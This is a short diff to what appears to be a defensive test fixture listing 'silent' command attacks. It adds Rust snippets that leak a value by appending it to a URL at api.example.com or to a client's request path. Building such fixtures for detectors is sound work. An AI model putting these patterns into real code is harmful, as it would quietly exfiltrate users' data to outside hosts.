@@ -182,6 +182,16 @@ const URLS: readonly CommandAttack[] = [
   ),
   attack(
     "silent",
+    "adds it to an address",
+    `reqwest::blocking::get("https://api.example.com/".to_string() + &value)${DONE}`,
+  ),
+  attack(
+    "silent",
+    "puts it behind the address that a client has",
+    `let client = api_client(); client.get(&format!("/notes/{value}")).send()${DONE}`,
+  ),
+  attack(
+    "silent",
     "puts it behind an address of its own",
     `let base = std::env::var("API").unwrap(); reqwest::blocking::get(format!("{base}/x/{value}"))${DONE}`,
   ),
